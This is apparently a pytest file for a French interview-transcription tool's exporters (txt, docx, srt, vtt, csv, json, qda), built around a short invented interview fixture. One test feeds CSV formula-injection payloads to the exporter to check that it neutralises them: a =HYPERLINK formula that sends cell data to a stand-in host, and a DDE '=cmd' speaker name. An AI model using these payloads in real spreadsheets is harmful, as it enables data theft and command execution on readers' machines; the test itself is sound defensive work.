"""Every export read back by an independent parser."""

from __future__ import annotations

import csv
import io
import json
import re
from importlib import resources

import jsonschema
import pytest
import srt
import webvtt
from docx import Document
from docx.enum.text import WD_COLOR_INDEX

from transcribe.conventions import Conventions, build_turns, pause_token
from transcribe.export import FORMATS, parse_formats, render, write_exports
from transcribe.export.docx import to_docx
from transcribe.export.txt import to_txt
from transcribe.transcript import Gap, Segment, Speaker, Transcript, Word

SCHEMA = json.loads(resources.files("transcribe").joinpath("transcript.schema.json")
                    .read_text(encoding="utf-8"))


def w(start, end, text, probability=0.95, speaker=None):
    return Word(start, end, " " + text, probability, speaker)


@pytest.fixture
def interview() -> Transcript:
    return Transcript(
        language="fr",
        duration=3725.0,
        source="entretien-03.m4a",
        model="base",
        engine="whisperx",
        segments=[
            Segment(1.0, 4.0, "Bonjour Marie Dupont, merci d'être là.", "S0", [
                w(1.0, 1.5, "Bonjour"), w(1.6, 2.1, "Marie"), w(2.2, 2.7, "Dupont,"),
                w(2.8, 3.2, "merci"), w(3.3, 3.6, "d'être"), w(3.7, 4.0, "là.")]),
            Segment(5.0, 12.0, "Euh oui, je travaille à Montreuil.", "S1", [
                w(5.0, 5.3, "Euh"), w(5.4, 5.8, "oui,"), w(8.8, 9.1, "je"),
                w(9.2, 10.0, "travaille", 0.2), w(10.1, 10.3, "à"),
                w(10.4, 12.0, "Montreuil.")]),
            Segment(12.5, 14.0, "Depuis longtemps ?", "S0",
                    [w(12.5, 13.2, "Depuis"), w(13.3, 14.0, "longtemps ?")], overlap=True),
            Segment(3600.0, 3610.0, "Depuis dix ans, avec Marie.", "S1", [
                w(3600.0, 3601.0, "Depuis"), w(3601.1, 3602.0, "dix"),
                w(3602.1, 3603.0, "ans,"), w(3603.1, 3604.0, "avec"),
                w(3604.1, 3610.0, "Marie.")]),
        ],
        speakers={"S0": Speaker("S0", "Enquêtrice", "interviewer"),
                  "S1": Speaker("S1", "Enquêté", "interviewee")},
    )


def text_of(data: bytes) -> str:
    return data.decode("utf-8-sig")


def test_txt_paragraphs_with_names_and_optional_timestamps(interview):
    plain = text_of(render(interview, "txt")).strip().split("\n\n")
    assert plain[0] == "Enquêtrice: Bonjour Marie Dupont, merci d'être là."
    text = to_txt(interview, Conventions(timestamps=True))
    paragraphs = text.strip().split("\n\n")
    assert len(paragraphs) == 4
    pattern = re.compile(r"^\[(\d\d):(\d\d):(\d\d)\] ([^:]+): (.+)$")
    parsed = [pattern.match(p).groups() for p in paragraphs]
    assert parsed[0][3:] == ("Enquêtrice", "Bonjour Marie Dupont, merci d'être là.")
    assert parsed[2][3] == "Enquêtrice" and parsed[2][4] == "//Depuis longtemps ?//"
    assert parsed[3][:3] == ("01", "00", "00")
    bare = to_txt(interview, Conventions(speaker_names=False)).strip().split("\n\n")
    assert bare[0] == "Bonjour Marie Dupont, merci d'être là."


def test_docx_title_metadata_bold_speakers_and_timestamps(interview):
    conventions = Conventions(flag_uncertain=True)
    document = Document(io.BytesIO(render(interview, "docx", conventions)))
    assert document.core_properties.title == "entretien-03.m4a"
    assert document.paragraphs[0].text == "entretien-03.m4a"
    body = [p for p in document.paragraphs if p.text.startswith("[")]
    assert len(body) == 4
    first = body[0]
    assert first.text == "[00:00:01] Enquêtrice: Bonjour Marie Dupont, merci d'être là."
    bold = [r.text for r in first.runs if r.bold]
    assert bold == ["Enquêtrice: "]
    highlighted = [r.text for p in body for r in p.runs
                   if r.font.highlight_color == WD_COLOR_INDEX.YELLOW]
    assert highlighted == ["travaille"]
    metadata = "\n".join(p.text for p in document.paragraphs[1:8])
    assert "1:02:05" in metadata and "whisperx / base" in metadata


def test_srt_parses_with_speakers_and_times(interview, tmp_path):
    path = tmp_path / "t.srt"
    path.write_bytes(render(interview, "srt"))
    # Read back by a parser other than the writer's library.
    captions = webvtt.from_srt(str(path))
    assert captions[0].start == "00:00:01.000"
    assert captions[0].text.startswith("Enquêtrice: Bonjour")
    assert captions[-1].end == "01:00:10.000"
    subtitles = list(srt.parse(path.read_text(encoding="utf-8")))
    assert len(subtitles) == len(captions)
    assert subtitles[0].start.total_seconds() == pytest.approx(1.0)
    assert subtitles[0].content.startswith("Enquêtrice: Bonjour")
    assert all(s.end > s.start for s in subtitles)
    assert any(s.content.startswith("Enquêté:") for s in subtitles)
    assert all(len(s.content) <= 100 for s in subtitles)


def test_vtt_uses_voice_spans(interview, tmp_path):
    path = tmp_path / "t.vtt"
    path.write_bytes(render(interview, "vtt"))
    captions = webvtt.read(str(path))
    assert captions[0].voice == "Enquêtrice"
    assert captions[0].text.startswith("Bonjour Marie")
    assert {c.voice for c in captions} == {"Enquêtrice", "Enquêté"}
    assert captions[-1].end == "01:00:10.000"


def test_csv_has_start_end_speaker_text(interview):
    data = render(interview, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads accents right
    rows = list(csv.DictReader(io.StringIO(text_of(data))))
    assert list(rows[0]) == ["start", "end", "speaker", "text"]
    assert rows[1] == {"start": "00:00:05.000", "end": "00:00:12.000", "speaker": "Enquêté",
                       "text": "Euh oui, je travaille à Montreuil."}
    assert len(rows) == 4


def test_csv_has_one_row_per_segment_even_of_one_speaker():
    transcript = Transcript(language="fr", duration=4.0, segments=[
        Segment(0.0, 1.0, "Un.", "S0"), Segment(1.5, 2.5, "Deux.", "S0"),
        Segment(3.0, 4.0, "Trois.", None)], speakers={"S0": Speaker("S0", "Enquêtrice")})
    text = text_of(render(transcript, "csv"))
    assert text.split("\n") == ["start,end,speaker,text",
                                 "00:00:00.000,00:00:01.000,Enquêtrice,Un.",
                                 "00:00:01.500,00:00:02.500,Enquêtrice,Deux.",
                                 "00:00:03.000,00:00:04.000,,Trois.", ""]


def test_csv_cells_never_become_spreadsheet_formulas():
    from transcribe.export.tables import cell

    dangerous = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+33 6 12 34 56 78",
                 "-2+3", "@SUM(A1:A9)", "  =1+1"]
    transcript = Transcript(
        language="fr", duration=20.0, source="e.wav", model="base", engine="whisperx",
        segments=[Segment(float(n), n + 0.5, text, "S0" if n % 2 else "S1")
                  for n, text in enumerate([*dangerous, "Bonjour, 1+1=2 - oui @ Lyon."])],
        speakers={"S0": Speaker("S0", "=cmd|' /C calc'!A0"), "S1": Speaker("S1", "Enquêté")})
    rows = list(csv.DictReader(io.StringIO(text_of(render(transcript, "csv")))))
    texts = [row["text"] for row in rows]
    # Every formula start is quoted (the quote is what spreadsheets hide and read as text).
    assert all(text.startswith("'") for text in texts[:-1]), texts
    assert texts[-1] == "Bonjour, 1+1=2 - oui @ Lyon."  # mid-text signs untouched
    assert {row["speaker"] for row in rows} == {"'=cmd|' /C calc'!A0", "Enquêté"}
    # A tab or CR first neutralises the cell even before plain text (a spreadsheet may
    # strip it and read what follows); spaces alone do not.
    for value in [*dangerous, "\t=1+1", "\rnote", " \t@x", "\tplain"]:
        assert cell(value) == "'" + value
    assert cell("Oui - bien sûr") == "Oui - bien sûr" and cell("") == ""
    assert cell("  plain") == "  plain" and cell("plain\t=1") == "plain\t=1"
    # The other formats keep the text as spoken.
    assert '=HYPERLINK("http://x.example/?"&A1,"clic")' in text_of(render(transcript, "txt"))
    assert json.loads(render(transcript, "json"))["segments"][2]["text"] == "-2+3"


def test_json_round_trips(interview):
    data = json.loads(render(interview, "json"))
    jsonschema.validate(data, SCHEMA)  # the documented shape, checked independently
    assert set(data["segments"][0]) >= {"start", "end", "text", "speaker", "words"}
    assert set(data["segments"][0]["words"][0]) == {"start", "end", "word", "probability",
                                                    "speaker"}
    loaded = Transcript.from_json(text_of(render(interview, "json")))
    assert loaded == interview
    assert json.loads(render(interview, "json"))["speakers"]["S1"]["name"] == "Enquêté"


def test_qda_paragraphs_start_with_bracketed_timestamps(interview):
    text = text_of(render(interview, "qda"))
    assert not text.startswith("\ufeff")
    paragraphs = text.strip().split("\n\n")
    pattern = re.compile(r"^\[\d\d:\d\d:\d\d\] (Enquêtrice|Enquêté): \S.*$")
    assert all(pattern.match(p) for p in paragraphs), paragraphs
    assert "\n" not in "".join(paragraphs)  # one line per paragraph


def test_pauses_are_marked_by_length(interview):
    text = text_of(render(interview, "txt", Conventions(mark_pauses=True)))
    assert "Euh oui, (...) je travaille" in text
    assert pause_token(2.2).text == "(..)"
    assert pause_token(12.4).text == "(12 s)"


def test_uncertain_words_flagged(interview):
    text = text_of(render(interview, "txt", Conventions(flag_uncertain=True)))
    assert "je [travaille?] à Montreuil" in text
    stricter = text_of(render(interview, "txt", Conventions(flag_uncertain=True,
                                                             uncertainty_threshold=0.1)))
    assert "[travaille?]" not in stricter


def test_fillers_removed_on_request(interview):
    kept = text_of(render(interview, "txt"))
    removed = text_of(render(interview, "txt", Conventions(remove_fillers=True)))
    assert "Euh oui" in kept and "Euh" not in removed and "oui, je travaille" in removed


def test_pseudonyms_apply_to_every_format(interview):
    interview.speakers["S1"].name = "Marie Dupont"
    conventions = Conventions(pseudonyms={"Marie Dupont": "Mme A.", "Marie": "Anne",
                                          "Montreuil": "[ville]"})
    for name in FORMATS:
        data = render(interview, name, conventions)
        if name == "docx":
            data = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs).encode()
        text = text_of(data)
        assert "Dupont" not in text and "Montreuil" not in text, name
        assert "Mme A." in text and "[ville]" in text, name
        assert "avec Anne." in text, name
    exported = json.loads(render(interview, "json", conventions))
    jsonschema.validate(exported, SCHEMA)
    words = [w["word"] for s in exported["segments"] for w in s["words"]]
    assert " Mme A.," in words and " [ville]." in words and " Anne." in words
    first = Transcript.from_dict(exported).segments[0]
    assert first.words_match_text() and first.text == "Bonjour Mme A., merci d'être là."
    assert "Dupont" in interview.speakers["S1"].name  # the stored transcript is unchanged


def test_a_corrected_segment_exports_its_corrected_text(interview):
    interview.segments[1].text = "Oui, je travaille à Montreuil-sous-Bois."
    text = text_of(render(interview, "txt", Conventions(flag_uncertain=True)))
    assert "Oui, je travaille à Montreuil-sous-Bois." in text
    assert "[travaille?]" not in text  # the flag belonged to the words before correction


def test_consecutive_segments_of_one_speaker_form_one_turn(interview):
    interview.segments[2].speaker = "S1"
    interview.segments[2].overlap = False
    turns = build_turns(interview)
    assert [t.speaker for t in turns] == ["Enquêtrice", "Enquêté"]
    assert turns[1].end == 3610.0


def test_write_exports_names_one_file_per_format(interview, tmp_path):
    written = write_exports(interview, parse_formats("txt,docx,srt,vtt,json,csv,qda"),
                            tmp_path, "entretien-03")
    names = sorted(p.name for p in written)
    assert names == sorted(["entretien-03.txt", "entretien-03.docx", "entretien-03.srt",
                            "entretien-03.vtt", "entretien-03.json", "entretien-03.csv",
                            "entretien-03.qda.txt"])
    assert len({p.read_bytes() for p in written}) == 7
    with pytest.raises(ValueError, match="pdf"):
        parse_formats("txt,pdf")


def docx_of(transcript: Transcript, conventions: Conventions | None = None,
            **options) -> Document:
    return Document(io.BytesIO(FORMATS["docx"].render(transcript, conventions or Conventions())
                               if not options else to_docx(transcript, conventions, **options)))


def test_docx_labels_follow_the_interface_language_not_the_audio(interview):
    # French audio, English interface: English labels.
    english = "\n".join(p.text for p in docx_of(interview, ui_language="en").paragraphs)
    assert "Duration: 1:02:05" in english and "Durée" not in english
    # The interface language the job was submitted in, when none is given.
    interview.options.ui_language = "en"
    assert "Duration: " in "\n".join(p.text for p in docx_of(interview).paragraphs)
    interview.language = "en"
    interview.options.ui_language = "fr"
    assert "Durée : " in "\n".join(p.text for p in docx_of(interview).paragraphs)
    # The page's language at download time wins over the one at submission.
    switched = Document(io.BytesIO(render(interview, "docx", ui_language="en")))
    assert "Duration: " in "\n".join(p.text for p in switched.paragraphs)


def test_docx_legend_lists_only_the_conventions_applied(interview):
    def legend(conventions: Conventions) -> str:
        paragraphs = docx_of(interview, conventions, ui_language="en").paragraphs
        return next((p.text for p in paragraphs if p.text.startswith("Conventions")), "")

    assert legend(Conventions()) == "Conventions: //...// overlapping speech."
    assert legend(Conventions(mark_overlaps=False)) == ""  # nothing applied, no legend
    everything = legend(Conventions(mark_pauses=True, remove_fillers=True,
                                    pseudonyms={"Marie": "Anne"}))
    assert "(.) one dot per second of pause" in everything  # a 3 s pause in segment 2
    assert "hesitations" in everything and "pseudonyms" in everything
    assert "[word?]" not in everything  # the docx highlights them: a sentence says so
    interview.segments[2].overlap = False
    assert "overlapping" not in legend(Conventions(mark_pauses=True))


def test_docx_author_is_the_app_not_the_library(interview):
    properties = docx_of(interview).core_properties
    assert properties.author == "transcribe"
    assert properties.last_modified_by == "transcribe"
    assert "python-docx" not in (properties.comments or "")
    assert properties.created.year >= 2025  # not the template's 2013


def test_txt_and_qda_keep_punctuation_outside_the_uncertain_mark(interview):
    interview.segments[1].words[-1].probability = 0.1  # "Montreuil."
    for name in ("txt", "qda"):
        text = text_of(render(interview, name, Conventions(flag_uncertain=True)))
        assert "[Montreuil?]." in text and "[Montreuil.?]" not in text


def test_txt_paragraph_goes_on_around_an_overlap(interview):
    interview.segments[2].speaker = "S1"  # the interviewee, overlapped, then again
    for name in ("txt", "qda"):
        paragraphs = text_of(render(interview, name)).strip().split("\n\n")
        assert len(paragraphs) == 2
        assert paragraphs[1].endswith(
            "Montreuil. //Depuis longtemps ?// Depuis dix ans, avec Marie.")


def test_the_file_name_in_the_docx_and_the_json_carries_the_pseudonyms(interview):
    from transcribe.export import export_stem
    from transcribe.i18n import Notice

    interview.source = "entretien_Durand_Montreuil.ogg"
    interview.notices = [Notice("audio.damaged", {"name": interview.source})]
    conventions = Conventions(pseudonyms={"Durand": "[NOM]", "Montreuil": "[VILLE]"})
    named = "entretien_[NOM]_[VILLE].ogg"
    document = Document(io.BytesIO(render(interview, "docx", conventions, "en")))
    assert document.core_properties.title == named and document.paragraphs[0].text == named
    assert f"File: {named}" in [p.text for p in document.paragraphs[1:3]]
    exported = json.loads(render(interview, "json", conventions))
    assert exported["source"] == named and exported["notices"] == [
        {"key": "audio.damaged", "params": {"name": named}}]
    assert exported["options"] == interview.options.to_dict()  # no name in them: as they are
    for name in FORMATS:  # no other format names the file
        assert b"Durand" not in render(interview, name, conventions), name
    assert export_stem("entretien_Durand_Montreuil", conventions) == "entretien_[NOM]_[VILLE]"
    assert export_stem("Durand", Conventions(pseudonyms={"Durand": ""})) == "transcript"
    assert interview.source == "entretien_Durand_Montreuil.ogg"  # the stored one keeps it


def test_speech_with_no_text_is_marked_at_its_place_in_every_export(interview, tmp_path):
    # The guard took a loop out of Enquêté's answer (5.8-8.8: between "oui," and "je"), and
    # someone spoke with no text after the hour.
    interview.gaps = [Gap(5.9, 8.7, "guard", "S1"), Gap(3615.2, 3621.4, "no_text", "S0")]
    inside, late = "[inaudible 00:05-00:09]", "[inaudible 1:00:15-1:00:22]"
    txt = text_of(render(interview, "txt")).strip().split("\n\n")
    assert txt[1] == f"Enquêté: Euh oui, {inside} je travaille à Montreuil."
    assert txt[-1] == f"Enquêtrice: {late}"
    qda = text_of(render(interview, "qda"))
    assert f"oui, {inside} je" in qda and f"[01:00:15] Enquêtrice: {late}" in qda
    paragraphs = Document(io.BytesIO(render(interview, "docx"))).paragraphs
    answer = next(p for p in paragraphs if inside in p.text)
    assert answer.text.endswith(f"Enquêté: Euh oui, {inside} je travaille à Montreuil.")
    assert [r.italic for r in answer.runs if r.text == inside] == [True]
    assert any(late in p.text for p in paragraphs)
    assert any("[inaudible 00:07-00:14] parole sans texte" in p.text for p in paragraphs)
    cues = list(srt.parse(text_of(render(interview, "srt"))))
    marked = [c for c in cues if "inaudible" in c.content]
    assert [(c.content, c.start.total_seconds(), c.end.total_seconds()) for c in marked] == [
        (f"Enquêté: {inside}", 5.9, 8.7), (f"Enquêtrice: {late}", 3615.2, 3621.4)]
    assert [c.start for c in cues] == sorted(c.start for c in cues)  # in time order
    path = tmp_path / "t.vtt"
    path.write_bytes(render(interview, "vtt"))
    assert [c.text for c in webvtt.read(str(path)) if "inaudible" in c.text] == [inside, late]
    rows = list(csv.reader(io.StringIO(text_of(render(interview, "csv")))))
    assert ["00:00:05.900", "00:00:08.700", "Enquêté", inside] in rows
    exported = json.loads(render(interview, "json"))
    assert [g["reason"] for g in exported["gaps"]] == ["guard", "no_text"]
    jsonschema.validate(exported, SCHEMA)
